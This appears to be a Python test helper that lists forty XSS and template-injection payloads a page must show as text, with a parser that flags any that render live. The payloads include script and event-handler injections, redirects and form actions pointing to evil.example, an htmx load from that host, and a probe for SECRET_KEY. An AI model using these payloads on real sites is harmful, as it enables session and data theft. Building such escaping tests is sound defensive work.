"""Forty texts that a page must show and never run: what each would do, were it run, is set `window.__xss`."""

from html.parser import HTMLParser
from typing import Final

RUN: Final = "window.__xss=1"
PAYLOADS: Final = [
    # HTML
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<iframe src=javascript:parent.__xss=1>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<object data=javascript:{RUN}></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example><button>Enregistrer",
    "<style>@import '//evil.example/x.css'</style>",
    "<!-- --!><b>gras</b>",
    # the end of something
    f"</script><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"]]></template><img src=x onerror={RUN}>",
    # attributes, and those that Alpine and htmx would run
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'" x-data x-init="{RUN}" y="',
    f'"><div x-data="{{a: {RUN}}}"></div>',
    '" hx-get="//evil.example/" hx-trigger="load" z="',
    # strings of scripts
    f"';{RUN};//",
    f'";{RUN};//',
    f"`${{{RUN}}}`",
    f"\\'-({RUN})-\\'",
    f"x\u2028{RUN}//",
    # addresses
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    # templates
    "{{7*1910191}} ${7*1910191} #{7*1910191} <%=7*1910191%>",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('window.__xss=1')()}}",
    # markup that changes its meaning when it is read twice
    f"<svg onload={RUN}><g/onload={RUN}//",
    f'<svg></p><style><g title="</style><img src onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src onerror={RUN}>">',
    # letters that turn the line around, and entities
    f"\u202egpj.<img src=x onerror={RUN}>\u202c &lt;script&gt; &amp;lt; %3Cscript%3E",
]


# Our pages have none of these, and no address outside the site.
FOREIGN_ELEMENTS: Final = {"iframe", "object", "video", "math", "mglyph", "base", "b"}
ADDRESSES: Final = ("href", "src", "action", "content", "hx-get")
OUTSIDE: Final = ("//evil.example", "0;url=//evil.example", "javascript:", "data:text")


def pack(max_characters: int) -> list[str]:
    """All payloads in as few texts as they fit into: a page a text costs too much."""
    texts = [""]
    for payload in PAYLOADS:
        if texts[-1] and len(texts[-1]) + 1 + len(payload) > max_characters:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".lstrip(" ")
    return texts


NAMES: Final = pack(120)


class _Reader(HTMLParser):
    """Every text and attribute of a page as a browser understands them."""

    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.texts += [value for _name, value in attrs if value]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def read_page(page: str) -> _Reader:
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader


def find_missing(page: str) -> list[str]:
    """The payloads that the page does not show literally."""
    texts = "\n".join(read_page(page).texts)
    return [payload for payload in PAYLOADS if payload not in texts]


def find_live(page: str) -> list[str]:
    """Elements and attributes that only a payload can have brought into the page."""
    live = [
        f"<{tag} {attributes}>"
        for tag, attributes in read_page(page).elements
        if tag in FOREIGN_ELEMENTS
        or any(name.startswith(("on", "x-init")) and "__xss" in str(attributes) for name in attributes)
        or any((attributes.get(name) or "").startswith(OUTSIDE) for name in ADDRESSES)
    ]
    return live + ["13371337"] * ("13371337" in page)
